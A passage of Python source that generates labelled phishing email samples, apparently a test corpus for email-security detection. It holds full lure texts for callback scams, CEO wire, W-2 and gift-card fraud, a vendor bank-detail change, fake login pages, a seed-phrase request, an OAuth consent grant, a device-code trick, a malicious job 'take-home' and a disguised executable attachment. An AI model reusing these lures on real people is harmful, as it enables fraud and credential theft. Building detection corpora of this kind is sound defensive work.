          received=[mx_in("hr-examplecorp.test", "198.51.100.166", "Wed, 06 May 2026 13:40:14 +0000", "4gDc1p9KRzz5Yy")],
          html=html, html_cte="base64")


def p24_paypal_invoice_callback() -> None:
    # The real invoicing service abused: the lure sits in the seller's note, so From and links are PayPal's own.
    note = ("Note from seller: Your PayPal account has been charged $649.99 for a Bitcoin purchase. If you did not authorize this transaction, "
            "call PayPal Billing Support immediately at +1 (808) 555-0127 to cancel and receive a full refund within 24 hours.")
    link = f"https://www.paypal.com/invoice/p/#INV2-{token('p24', 4, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789')}-{token('p24b', 4, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789')}-{token('p24c', 4, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789')}-{token('p24d', 4, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789')}"
    html = _page('<p><img src="https://www.paypalobjects.com/digitalassets/c/website/logo/full-text/pp_fc_hl.svg" width="120" alt="PayPal"></p>'
                 '<p style="font-size:20px">Billing Department sent you an invoice for $649.99 USD</p>'
                 f'<p style="background:#f5f7fa;padding:12px">{note}</p>'
                 '<table style="font-size:14px"><tr><td>Invoice number</td><td>0081</td></tr><tr><td>Due date</td><td>On receipt</td></tr><tr><td>Amount</td><td>$649.99 USD</td></tr></table>'
                 f'<p><a href="{link}" style="background:#0070e0;color:#fff;padding:10px 24px;border-radius:20px;text-decoration:none">View and Pay Invoice</a></p>'
                 '<p style="font-size:11px;color:#666">Don&#39;t recognize this invoice? Report this invoice.<br>PayPal, 2211 North First Street, San Jose, CA 95131</p>')
    build("phish/24_paypal_invoice_callback.eml", frm="\"service@paypal.com\" <service@paypal.com>", subject="Invoice from Billing Department (0081)",
          date="Fri, 15 May 2026 19:22:48 -0700", msgid=f"<{token('p24m', 12, '0123456789abcdef')}.{token('p24m2', 16, '0123456789abcdef')}@paypal.com>",
          received=[mx_in("mx0.slc.paypal.com", "173.0.84.228", "Sat, 16 May 2026 02:22:51 +0000", "4gLr3t0MSaz6Zz")],
          dkim_domain="paypal.com", selector="pp-dkim1",
          text=f"Billing Department sent you an invoice for $649.99 USD\n\n{note}\n\nInvoice number: 0081\nAmount: $649.99 USD\n\nView and Pay Invoice: {link}\n",
          html=html)


def p25_mcafee_callback_pdf() -> None:
    att = pdf(["McAfee+ Total Protection - ORDER CONFIRMATION", "", "Invoice No: MCF-8820419     Date: 05/21/2026", "Customer: alex.morgan@example.com", "",
               "McAfee+ Ultimate (5 devices, 3 years) ........ $449.99", "Auto-renewal: ENABLED", "Payment: Charged to card on file", "",
               "If you did not authorize this renewal or wish to cancel,", "call our billing desk within 24 hours:", "",
               "      +1 (888) 555-0186   (Mon-Sun, 24/7)", "", "Refunds are processed only over the phone."])
    text = "Hello,\n\nThank you for renewing your subscription. Your order details are attached.\n\nRegards,\nBilling Team\n"
    build("phish/25_mcafee_callback_pdf.eml", frm="McAfee Billing <mcafee.billing.dept2026@gmail.com>", subject="Order Confirmation - MCF-8820419",
          date="Thu, 21 May 2026 06:48:30 +0000", msgid=f"<CAB{token('p25m', 40)}@mail.gmail.com>",
          received=[mx_in("mail-sor-f41.google.com", "209.85.220.41", "Thu, 21 May 2026 06:48:33 +0000", "4gQn6x2NTbz7Ab")],
          dkim_domain="gmail.com", selector="20230601", extra=[("Bcc", "undisclosed-recipients:;")],
          text=text, text_cte="7bit", attachments=[(att, "application/pdf", "MCF-8820419.pdf")], bstyle="gmail")


def p26_bec_wire_lookalike() -> None:
    text = ("Alex,\n\nAre you at your desk? I need you to process a wire today for the Halvorsen acquisition deposit. It's time-sensitive "
            "and confidential until the announcement - please don't discuss it with the team yet.\n\nAmount: $86,400.00\n"
            "I'll send the beneficiary details as soon as you confirm you can get it out before the 2pm cut-off.\n\n"
            "I'm in back-to-back meetings, so email only.\n\nThanks,\nDana\n\nDana Whitfield\nChief Executive Officer\nExample Corp\n\nSent from my iPhone\n")
    build("phish/26_bec_ceo_wire_lookalike.eml", frm="Dana Whitfield <dana.whitfield@exarnple.com>", subject="Urgent wire - confidential",
          date="Tue, 26 May 2026 10:14:22 -0600", msgid=f"<{token('p26m', 32)}@exarnple.com>",
          received=[mx_in("mail.exarnple.com", "198.51.100.240", "Tue, 26 May 2026 16:14:25 +0000", "4gVt0B3PUcz8Bc")],
          extra=[("Reply-To", "Dana Whitfield <d.whitfield.ceo@outlook.com>"), ("X-Mailer", "iPhone Mail (22E252)")],
          text=text, text_cte="7bit")


def p27_bec_w2_proton() -> None:
    text = ("Hi Alex,\n\nI need the 2025 W-2s for all staff (PDF is fine) for a review with our auditors this afternoon. "
            "Can you pull them from the payroll system and send them to me here? My work mailbox is having sync issues on the road.\n\n"
            "Please treat this as a priority.\n\nDana Whitfield\nCEO, Example Corp\n")
    build("phish/27_bec_w2_request_proton.eml", frm="Dana Whitfield <dwhitfield.examplecorp@proton.me>", subject="W-2 request",
          date="Mon, 01 Jun 2026 11:03:09 +0000", msgid=f"<{token('p27m', 40)}=@proton.me>",
          received=[mx_in("mail-4022.protonmail.ch", "185.70.40.22", "Mon, 01 Jun 2026 11:03:12 +0000", "4gZf2D4QVdz9Cd")],
          dkim_domain="proton.me", selector="protonmail3", text=text)


def p28_bec_gift_cards_outlook() -> None:
    text = ("Hi Alex,\n\nHope your day is going well. I need a quick favour - I want to surprise a few clients with gift cards today and I can't "
            "do it myself right now. Can you get 8 Apple gift cards, $200 each? I'll reimburse you by end of day.\n\n"
            "Once you have them, scratch the back and send me clear pictures of the codes.\n\nLet me know asap.\n\nDana\nSent from my iPhone\n")
    build("phish/28_bec_gift_cards_outlook.eml", frm="Dana Whitfield <dana.whitfield.exec@outlook.com>", subject="Quick favour",
          date="Thu, 04 Jun 2026 15:51:36 +0000", msgid=f"<PH0P220MB{token('p28m', 32, '0123456789ABCDEF')}@PH0P220MB1234.NAMP220.PROD.OUTLOOK.COM>",
          received=[mx_in("NAM11-BN8-obe.outbound.protection.outlook.com", "40.92.20.83", "Thu, 04 Jun 2026 15:51:39 +0000", "4gcD5E5RWez1De")],
          dkim_domain="outlook.com", selector="selector1", text=text, bstyle="outlook")


def p29_vendor_bank_change() -> None:
    letter = pdf(["MERIDIAN CLEANING SERVICES LLC", "4410 Brighton Blvd, Denver, CO 80216", "", "June 9, 2026", "", "RE: CHANGE OF BANKING DETAILS", "",
                  "Dear Valued Customer,", "Please be advised that effective immediately all payments to Meridian Cleaning", "Services should be remitted to our new account:", "",
                  "Bank: First Harbor Bank N.A.", "Account name: Meridian Cleaning Services LLC", "Routing (ABA): 021000089", "Account no.: 5590 1834 2277", "",
                  "Our previous account is under audit and will no longer accept deposits.", "Sincerely,", "Chris Tanaka, Accounts"])
    text = ("Hello Alex,\n\nHope you're well. Please note our banking details have changed - the letter on our letterhead is attached. "
            "Kindly update your vendor records before the next payment run and confirm once done. The June invoice (#MCS-1188, $4,120.00) "
            "should go to the new account.\n\nThank you,\nChris Tanaka\nMeridian Cleaning Services\n")
    build("phish/29_vendor_bank_change_pdf.eml", frm="Chris Tanaka <ctanaka@meridiancleaning.example>", subject="Updated banking information - Meridian Cleaning",
          date="Tue, 09 Jun 2026 09:37:51 -0600", msgid=f"<{token('p29m', 30)}@meridiancleaning.example>",
          received=[mx_in("mail.meridiancleaning.example", "203.0.113.34", "Tue, 09 Jun 2026 15:37:54 +0000", "4ghS7G6SXfz2Ef")],
          dkim_domain="meridiancleaning.example",
          extra=[("Reply-To", "Chris Tanaka <ctanaka@meridian-cleaning.example>")],
          text=text, attachments=[(letter, "application/pdf", "Meridian_New_Bank_Details.pdf")])


def p30_workday_direct_deposit() -> None:
    link = f"https://examplecorp.myworkday-login.test/wday/authgwy/examplecorp/login.htmld?redirect=n&ref={token('p30', 12)}"
    html = _page('<p><b style="color:#0875e1;font-size:20px">workday</b></p>'
                 '<p>Your payment election (direct deposit) was changed on 06/16/2026 at 02:14 AM.</p>'
                 '<table style="font-size:13px"><tr><td>New account</td><td>Checking ****8831</td></tr><tr><td>Effective</td><td>Next pay period</td></tr></table>'
                 '<p>If you did not make this change, sign in to Workday immediately to review your payment elections and reverse the change.</p>'
                 f'<p><a href="{link}">Review Payment Elections</a></p>'
                 '<p style="font-size:11px;color:#777">This email was generated automatically by Workday. Please do not reply.</p>')
    build("phish/30_workday_direct_deposit_changed.eml", frm="Workday <examplecorp@myworkday-notifications.test>", subject="Payment Election Changed - Please Review",
          date="Tue, 16 Jun 2026 02:20:33 -0700", msgid=f"<{token('p30m', 20, '0123456789')}.JavaMail@myworkday-notifications.test>",
          received=[mx_in("myworkday-notifications.test", "198.51.100.188", "Tue, 16 Jun 2026 09:20:36 +0000", "4gmY0H7TYgz3Fg")],
          html=html)


def p31_hmrc_refund() -> None:
    link = "https://hmrc.gov.uk.tax-refund-claim.test/refund/claim?ref=HMRC-TR-2026-55120"
    html = _page('<table width="100%" style="background:#0b0c0c"><tr><td style="padding:12px;color:#fff;font-size:22px;font-weight:bold">GOV.UK</td></tr></table>'
                 '<p style="font-size:20px;font-weight:bold">You are eligible for a tax refund</p>'
                 '<p>Dear Taxpayer,</p><p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of <b>&pound;684.20</b>.</p>'
                 '<p>Please submit the tax refund request and allow us 3-5 working days to process it. Refund requests not submitted within 48 hours will be cancelled.</p>'
                 f'<p><a href="{link}" style="background:#00703c;color:#fff;padding:8px 16px;text-decoration:none">Claim your refund</a></p>'
                 '<p>Reference Number: HMRC-TR-2026-55120</p><p>HM Revenue &amp; Customs</p>')
    build("phish/31_hmrc_tax_refund.eml", frm="HM Revenue & Customs <refunds@hmrc-gov-uk.test>", subject="Tax Refund Notification - Reference HMRC-TR-2026-55120",
          date="Sat, 27 Jun 2026 06:12:08 +0100", msgid=f"<{token('p31m', 24)}@hmrc-gov-uk.test>",
          received=[mx_in("hmrc-gov-uk.test", "203.0.113.109", "Sat, 27 Jun 2026 05:12:11 +0000", "4gwF2J8UZhz4Gh")],
          html=html)


def p32_ezpass_toll() -> None:
    link = "https://ezpassny-tollservices.test/pay?n=EZ-4471029"
    text = ("E-ZPass Toll Services\n\nNOTICE OF UNPAID TOLL\n\nOur records indicate that your vehicle has an outstanding toll balance of $6.85 "
            "for travel on 06/29/2026.\n\nTo avoid a late fee of $50.00 and possible suspension of your vehicle registration, please settle "
            f"the balance by 07/03/2026:\n\n{link}\n\nNotice number: EZ-4471029\n\nThank you,\nE-ZPass Customer Service Center\n")
    build("phish/32_ezpass_unpaid_toll.eml", frm="E-ZPass <noreply@ezpass-notice.test>", subject="Unpaid Toll Notice EZ-4471029 - Action Required",
          date="Wed, 01 Jul 2026 20:44:02 -0400", msgid=f"<{token('p32m', 22)}@ezpass-notice.test>",
          received=[mx_in("ezpass-notice.test", "192.0.2.250", "Thu, 02 Jul 2026 00:44:05 +0000", "4h0S3K9VAjz5Hj")],
          text=text, text_cte="7bit")


def p33_apple_punycode() -> None:
    host = "аpple-id-support.com".encode("idna").decode()
    link = f"https://{host}/account/verify?case=AP-{token('p33', 8, '0123456789')}"
    html = _page('<p style="text-align:center"><img src="https://www.apple.com/ac/globalnav/7/en_US/images/be15095f-5a20-57d0-ad14-cf4c638e223a/globalnav_apple_image__b5er5ngrzxqq_large.svg" width="20" alt="Apple"></p>'
                 '<p style="font-size:22px;text-align:center">Your Apple Account has been locked</p>'
                 '<p>Dear Customer,</p><p>Your Apple Account was locked because of suspicious sign-in attempts from an unrecognised device in Lagos, Nigeria. '
                 'To restore access to iCloud, the App Store and Apple Pay, verify your identity.</p>'
                 f'<p style="text-align:center"><a href="{link}" style="color:#0066cc">Verify now &gt;</a></p>'
                 '<p>If you do not verify within 24 hours, your account will be permanently disabled.</p>'
                 '<p style="font-size:11px;color:#888">Apple Account | Support | Privacy Policy<br>Copyright &copy; 2026 Apple Inc. One Apple Park Way, Cupertino, CA 95014, United States.</p>',
                 font="-apple-system,Helvetica Neue,Helvetica,Arial")
    build("phish/33_apple_account_locked_punycode.eml", frm=f"Apple <no_reply@{host}>", subject="Your Apple Account has been locked",
          date="Wed, 08 Jul 2026 03:27:15 +0000", msgid=f"<{token('p33m', 26)}@{host}>",
          received=[mx_in(f"mail.{host}", "198.51.100.31", "Wed, 08 Jul 2026 03:27:18 +0000", "4h4X6L0WBkz6Jk")],
          html=html)


def p34_amazon_subdomain() -> None:
    link = f"https://amazon.com.account-prime-restore.test/ap/signin?openid.pape.max_auth_age=0&ref_={token('p34', 10)}"
    html = _page('<p><b style="font-size:22px">amazon</b></p><p style="font-size:18px">Your Prime membership could not be renewed</p>'
                 '<p>Hello,</p><p>We were unable to charge your payment method for your Prime membership renewal (<b>$14.99</b>). '
                 'Your Prime benefits, including free delivery and Prime Video, have been paused.</p>'
                 f'<p><a href="{link}" style="background:#ffd814;color:#0f1111;padding:8px 20px;border-radius:8px;text-decoration:none">Update payment information</a></p>'
                 '<p>If you do not update your payment information within 2 days, your membership and open orders will be cancelled.</p>'
                 '<p>Sincerely,<br>Amazon Customer Service</p><p style="font-size:11px;color:#777">&copy;2026 Amazon.com, Inc. or its affiliates. 410 Terry Ave N, Seattle, WA 98109</p>',
                 font="Amazon Ember,Arial,sans-serif")
    build("phish/34_amazon_prime_subdomain_trick.eml", frm="Amazon.com <account-update@amazon-primecare.test>", subject="Your Prime membership is on hold",
          date="Mon, 13 Jul 2026 12:05:44 +0000", msgid=f"<{token('p34m', 28)}@amazon-primecare.test>",
          received=[mx_in("amazon-primecare.test", "203.0.113.61", "Mon, 13 Jul 2026 12:05:47 +0000", "4h8c0M1XCmz7Km")],
          html=html)


def p35_ledger_drainer() -> None:
    link = "https://ledger-live-secure-update.web.app/recover?session=" + token("p35", 16)
    html = _page('<p style="background:#000;color:#fff;padding:14px;font-size:20px;font-weight:bold">LEDGER</p>'
                 '<p style="font-size:18px"><b>Security Incident: Mandatory Wallet Re-Synchronisation</b></p>'
                 '<p>Dear Ledger customer,</p><p>Following a security incident affecting one of our third-party providers, some recovery data may have been exposed. '
                 'As a precaution, all Ledger Nano users must re-synchronise their device with the new Ledger Live security module before <b>July 24, 2026</b>.</p>'
                 '<p>You will be asked to confirm your 24-word recovery phrase to validate device ownership. Assets on unsynchronised devices may be frozen.</p>'
                 f'<p><a href="{link}" style="background:#bbb0ff;color:#000;padding:10px 22px;text-decoration:none;font-weight:bold">Start re-synchronisation</a></p>'
                 '<p style="font-size:11px;color:#777">Ledger SAS, 1 rue du Mail, 75002 Paris, France</p>')
    build("phish/35_ledger_seed_phrase.eml", frm="Ledger <security@ledger-notices.test>", subject="Important: Mandatory Ledger device re-synchronisation",
          date="Fri, 17 Jul 2026 17:39:21 +0200", msgid=f"<{token('p35m', 24)}@ledger-notices.test>",
          received=[mx_in("ledger-notices.test", "198.51.100.117", "Fri, 17 Jul 2026 15:39:24 +0000", "4hCq3N2YDnz8Ln")],
          html=html)


def p36_linkedin_job_offer() -> None:
    link = "https://talentsync-careers.test/offers/blockstream-labs/SeniorSecEng_Assessment.zip"
    html = _page('<p><b style="color:#0a66c2;font-size:20px">in</b> <b>LinkedIn</b></p>'
                 '<p><b>Rebecca Lin</b>, Talent Partner at Blockstream Labs, sent you a message</p>'
                 '<div style="border:1px solid #ddd;padding:12px">Hi Alex, your background in email security is a great fit for our Senior Security Engineer role '
                 '(remote, $210-240k + tokens). The first step is a short take-home: please download the project, run it locally (npm install &amp;&amp; npm start) '
                 'and send me a screenshot of the dashboard. Job description and assessment are here.</div>'
                 f'<p><a href="{link}" style="background:#0a66c2;color:#fff;padding:8px 18px;border-radius:16px;text-decoration:none">View message</a></p>'
                 '<p style="font-size:11px;color:#777">This email was intended for Alex Morgan. LinkedIn Corporation, 1000 W Maude Ave, Sunnyvale, CA 94085</p>')
    build("phish/36_linkedin_job_offer_assessment.eml", frm="Rebecca Lin via LinkedIn <inmail-hit-reply@linkedin-messaging.test>", subject="Rebecca Lin sent you a message: Senior Security Engineer opportunity",
          date="Wed, 22 Jul 2026 14:11:07 +0000", msgid=f"<{token('p36m', 30)}@linkedin-messaging.test>",
          received=[mx_in("linkedin-messaging.test", "203.0.113.93", "Wed, 22 Jul 2026 14:11:10 +0000", "4hGx6P3ZEpz9Mp")],
          html=html)


def p37_dmca_firebase_storage() -> None:
    link = f"https://firebasestorage.googleapis.com/v0/b/evidence-files-{token('p37', 5, '0123456789')}.appspot.com/o/Copyright_Evidence_ExampleCorp.zip?alt=media&token={token('p37t', 8, '0123456789abcdef')}-{token('p37u', 4, '0123456789abcdef')}"
    text = ("Hello,\n\nI am writing on behalf of Lumen Pixel Studio regarding the unauthorized use of our copyrighted photographs on your website "
            "example.com (blog post \"Our new Denver office\").\n\nThe images were used without a license. Under the Digital Millennium Copyright Act "
            "(DMCA) we request that you remove them within 5 business days, or we will file a takedown with your hosting provider and pursue legal action.\n\n"
            f"You can review the original images and proof of ownership here:\n{link}\n\n"
            "Regards,\nMelissa Grant\nLegal Affairs, Lumen Pixel Studio\n")
    build("phish/37_dmca_notice_firebase_storage.eml", frm="Melissa Grant <lumenpixel.legal@gmail.com>", subject="Copyright Infringement Notice - example.com",
          date="Thu, 30 Jul 2026 10:58:40 +0000", msgid=f"<CAK{token('p37m', 40)}@mail.gmail.com>",
          received=[mx_in("mail-sor-f65.google.com", "209.85.220.65", "Thu, 30 Jul 2026 10:58:43 +0000", "4hPc0Q4AFqz1Nq")],
          dkim_domain="gmail.com", selector="20230601", text=text, bstyle="gmail")


def p38_oauth_consent() -> None:
    link = ("https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=7d9e2f41-3c8a-4b6e-9f10-2a5d8c7e4b13&response_type=code"
            "&redirect_uri=https%3A%2F%2Fdocs-sharepoint-viewer.test%2Fauth%2Fcallback&response_mode=query"
            "&scope=offline_access%20Mail.Read%20Mail.Send%20Files.ReadWrite.All%20User.Read&prompt=consent&state=" + token("p38", 16))
    html = _page('<p style="font-size:18px">Dana Whitfield shared <b>Board Resolution - Q3 2026.docx</b> with you</p>'
                 '<p>&quot;Alex &ndash; please review before Thursday. Opens in the secure viewer.&quot;</p>'
                 + _button(safelink(link), "Open in Document Viewer") +
                 '<p style="font-size:11px;color:#777">You&#39;ll be asked to sign in with your Microsoft 365 account and allow the viewer to open the file.</p>')
    build("phish/38_oauth_consent_safelinks.eml", frm="Document Viewer <share@docs-sharepoint-viewer.test>", subject="Dana Whitfield shared \"Board Resolution - Q3 2026\" with you",
          date="Mon, 10 Aug 2026 13:29:55 +0000", msgid=f"<{token('p38m', 24)}@docs-sharepoint-viewer.test>",
          received=[mx_in("docs-sharepoint-viewer.test", "198.51.100.12", "Mon, 10 Aug 2026 13:29:58 +0000", "4hXj3R5BGrz2Pr")],
          html=html)


def p39_device_code_teams() -> None:
    text = ("Hi Alex,\n\nThanks for agreeing to join the panel on AI and email security next week. I've set up the prep call on Teams for "
            "tomorrow at 10:00 MT.\n\nBecause you're an external guest on our tenant, you need to authorise your device first:\n\n"
            "  1. Go to https://microsoft.com/devicelogin\n  2. Enter the code: KQ7T-9MXB\n  3. Sign in with your work account\n\n"
            "The code is valid for 15 minutes, so please do it as soon as you see this and I'll send the join link right after.\n\n"
            "Best regards,\nDr. Elena Markovic\nProgramme Chair, Secure Comms Forum 2026\n")
    build("phish/39_device_code_teams_invite.eml", frm="Elena Markovic <elena.markovic.scf2026@gmail.com>", subject="Panel prep call - Teams access",
          date="Tue, 18 Aug 2026 16:42:18 +0000", msgid=f"<CAH{token('p39m', 40)}@mail.gmail.com>",
          received=[mx_in("mail-sor-f44.google.com", "209.85.220.44", "Tue, 18 Aug 2026 16:42:21 +0000", "4hcQ6S6CHsz3Qs")],
          dkim_domain="gmail.com", selector="20230601", text=text, bstyle="gmail")


def p40_de_dhl_zollgebuehr() -> None:
    link = "https://dhl-paket-zoll.test/de/sendung/zahlung?id=JJD00049120038471"
    html = _page('<p style="background:#ffcc00;padding:10px;font-weight:bold;color:#d40511;font-size:20px">DHL</p>'
                 '<p>Sehr geehrte Kundin, sehr geehrter Kunde,</p><p>Ihre Sendung <b>JJD00049120038471</b> befindet sich in unserem Verteilzentrum. '
                 'Für die Zustellung ist eine Zollgebühr von <b>2,99 &euro;</b> offen.</p>'
                 '<p>Bitte begleichen Sie die Gebühr innerhalb von 48 Stunden, sonst wird die Sendung an den Absender zurückgeschickt.</p>'
                 f'<p><a href="{link}" style="background:#d40511;color:#fff;padding:10px 20px;text-decoration:none">Gebühr bezahlen</a></p>'
                 '<p>Mit freundlichen Grüßen<br>Ihr DHL Paket Team</p><p style="font-size:11px;color:#777">Deutsche Post AG, Charles-de-Gaulle-Straße 20, 53113 Bonn</p>')
    build("phish/40_de_dhl_zollgebuehr.eml", frm="DHL Paket <noreply@dhl-sendungsinfo.test>", subject="Ihre Sendung JJD00049120038471: Zollgebühr offen",
          date="Fri, 28 Aug 2026 08:31:12 +0200", msgid=f"<{token('p40m', 24)}@dhl-sendungsinfo.test>",
          received=[mx_in("dhl-sendungsinfo.test", "203.0.113.14", "Fri, 28 Aug 2026 06:31:15 +0000", "4hkB0T7DJtz4Rt")],
          html=html)


def p41_fr_ameli() -> None:
    link = "https://ameli-remboursement.test/assure/espace/connexion?dossier=AM-2026-77812"
    text = ("Cher(e) assuré(e),\n\nAprès vérification de vos derniers remboursements, nous avons constaté un trop-perçu en votre faveur "
            "d'un montant de 187,40 €.\n\nPour recevoir ce remboursement sur votre compte bancaire, veuillez mettre à jour vos informations "
            f"dans votre espace personnel avant le 12/09/2026 :\n\n{link}\n\nPassé ce délai, le remboursement sera annulé.\n\n"
            "Cordialement,\nL'Assurance Maladie\n")
    build("phish/41_fr_ameli_remboursement.eml", frm="Assurance Maladie <ne-pas-repondre@ameli-info.test>", subject="Votre remboursement de 187,40 € est en attente",
          date="Thu, 03 Sep 2026 09:14:40 +0200", msgid=f"<{token('p41m', 22)}@ameli-info.test>",
          received=[mx_in("ameli-info.test", "198.51.100.73", "Thu, 03 Sep 2026 07:14:43 +0000", "4hpG3V8EKvz5Sv")],
          text=text, text_cte="quoted-printable")


def p42_it_poste() -> None:
    link = "https://posteitaliane-verifica.test/bancoposta/login?id=" + token("p42", 12)
    html = _page('<p style="background:#0047bb;color:#ffcc00;padding:12px;font-weight:bold;font-size:20px">Poste Italiane</p>'
                 '<p>Gentile cliente,</p><p>abbiamo rilevato un accesso anomalo al suo conto BancoPosta. Per la sua sicurezza, le funzioni di pagamento sono state temporaneamente <b>limitate</b>.</p>'
                 '<p>Per riattivare il conto è necessario confermare i suoi dati entro 24 ore.</p>'
                 f'<p><a href="{link}" style="background:#ffcc00;color:#0047bb;padding:10px 20px;text-decoration:none;font-weight:bold">Verifica ora</a></p>'
                 '<p>Cordiali saluti,<br>Servizio Clienti Poste Italiane</p>'
                 '<p style="font-size:11px;color:#777">Poste Italiane S.p.A. &ndash; Viale Europa 190, 00144 Roma</p>')
    build("phish/42_it_poste_conto_limitato.eml", frm="Poste Italiane <assistenza@poste-sicurezza.test>", subject="Avviso: il suo conto BancoPosta è stato limitato",
          date="Wed, 16 Sep 2026 22:05:31 +0200", msgid=f"<{token('p42m', 24)}@poste-sicurezza.test>",
          received=[mx_in("poste-sicurezza.test", "203.0.113.188", "Wed, 16 Sep 2026 20:05:34 +0000", "4hzL6W9FLwz6Tw")],
          html=html, html_cte="base64")


def p43_es_dgt_multa() -> None:
    link = "https://sede-dgt-multas.test/consulta/expediente?ref=ES-2026-448193"
    text = ("DIRECCIÓN GENERAL DE TRÁFICO\n\nNotificación de sanción pendiente\n\nEstimado/a conductor/a:\n\n"
            "Le informamos de que tiene una multa de tráfico pendiente de pago (expediente ES-2026-448193) por exceso de velocidad "
            "registrado el 21/09/2026 en la A-6, km 24.\n\nImporte: 100,00 € (50,00 € con reducción por pronto pago si abona en 48 horas).\n\n"
            f"Consulte y pague su sanción aquí: {link}\n\nEn caso de no abonar la sanción, se iniciará el procedimiento de apremio con un recargo del 20 %.\n\n"
            "Atentamente,\nDirección General de Tráfico\n")
    build("phish/43_es_dgt_multa.eml", frm="DGT - Notificaciones <notificaciones@dgt-sede-electronica.test>", subject="Notificación de multa pendiente - Expediente ES-2026-448193",
          date="Fri, 25 Sep 2026 11:47:09 +0200", msgid=f"<{token('p43m', 24)}@dgt-sede-electronica.test>",
          received=[mx_in("dgt-sede-electronica.test", "192.0.2.91", "Fri, 25 Sep 2026 09:47:12 +0000", "4j3R0X1GMxz7Vx")],
          text=text)


def p44_nl_digid() -> None:
    link = "https://digid-verlenging.test/inloggen?sessie=" + token("p44", 14)
    html = _page('<p style="background:#154273;color:#fff;padding:12px;font-size:18px">DigiD</p>'
                 '<p>Beste heer/mevrouw,</p><p>Uw DigiD verloopt op <b>15 oktober 2026</b>. Na deze datum kunt u niet meer inloggen bij de Belastingdienst, uw zorgverzekeraar en andere overheidsinstanties.</p>'
                 '<p>Verleng uw DigiD eenvoudig en gratis via onderstaande knop. Dit duurt ongeveer 2 minuten.</p>'
                 f'<p><a href="{link}" style="background:#e17000;color:#fff;padding:10px 20px;text-decoration:none">DigiD verlengen</a></p>'
                 '<p>Met vriendelijke groet,<br>Logius &ndash; DigiD</p><p style="font-size:11px;color:#777">Dit is een automatisch verzonden bericht.</p>')
    build("phish/44_nl_digid_verloopt.eml", frm="DigiD <noreply@digid-mijnoverheid.test>", subject="Uw DigiD verloopt binnenkort",
          date="Thu, 08 Oct 2026 19:26:50 +0200", msgid=f"<{token('p44m', 24)}@digid-mijnoverheid.test>",
          received=[mx_in("digid-mijnoverheid.test", "198.51.100.205", "Thu, 08 Oct 2026 17:26:53 +0000", "4jCW3Y2HNyz8Wy")],
          html=html)


def p45_payment_advice_img() -> None:
    text = ("Dear Sir/Madam,\n\nKindly find attached the payment advice for the outstanding balance on your account. "
            "The transfer was made today and should reflect in 1-2 business days.\n\nPlease open the attached document with Windows Explorer.\n\n"
            "Best Regards,\nAccounts Department\nGlobal Trade Partners Ltd.\n")
    build("phish/45_payment_advice_img.eml", frm="Accounts Department <accounts@globaltradepartners.test>", subject="Payment Advice - Ref GTP/2026/1014",
          date="Wed, 14 Oct 2026 05:33:18 +0000", msgid=f"<{token('p45m', 24)}@globaltradepartners.test>",
          received=[mx_in("globaltradepartners.test", "203.0.113.5", "Wed, 14 Oct 2026 05:33:21 +0000", "4jHb6Z3JPzz9Xz")],
          text=text, text_cte="7bit", attachments=[(iso_bytes("PAYMENT_ADVICE.EXE"), "application/octet-stream", "Payment_Advice_GTP2026.img")])


def all_phish() -> None:
    for fn in (p01_aitm_workers_dev_share, p02_ome_encrypted_pages_dev, p03_remittance_r2_dev, p04_quota_firebaseapp, p05_teams_missed_netlify,
               p06_salary_adjustment_vercel, p07_bing_open_redirect, p08_sendgrid_redirect_m365_payment, p09_clickfix_booking, p10_svg_voicemail,
               p11_html_attachment_b64_login, p12_html_attachment_charcode, p13_zip_password_lnk, p14_de_zip_password_js, p15_fax_zip_vbs,
               p16_onenote_attachment, p17_vhd_order, p18_reply_chain_hijack, p19_docusign_webflow, p20_adobe_sign_azure_blob,
               p21_compromised_vendor_canva_invoice, p22_qr_mfa_inline_png, p23_qr_html_table_benefits, p24_paypal_invoice_callback,
               p25_mcafee_callback_pdf, p26_bec_wire_lookalike, p27_bec_w2_proton, p28_bec_gift_cards_outlook, p29_vendor_bank_change,
               p30_workday_direct_deposit, p31_hmrc_refund, p32_ezpass_toll, p33_apple_punycode, p34_amazon_subdomain, p35_ledger_drainer,
               p36_linkedin_job_offer, p37_dmca_firebase_storage, p38_oauth_consent, p39_device_code_teams, p40_de_dhl_zollgebuehr,
               p41_fr_ameli, p42_it_poste, p43_es_dgt_multa, p44_nl_digid, p45_payment_advice_img):
        fn()
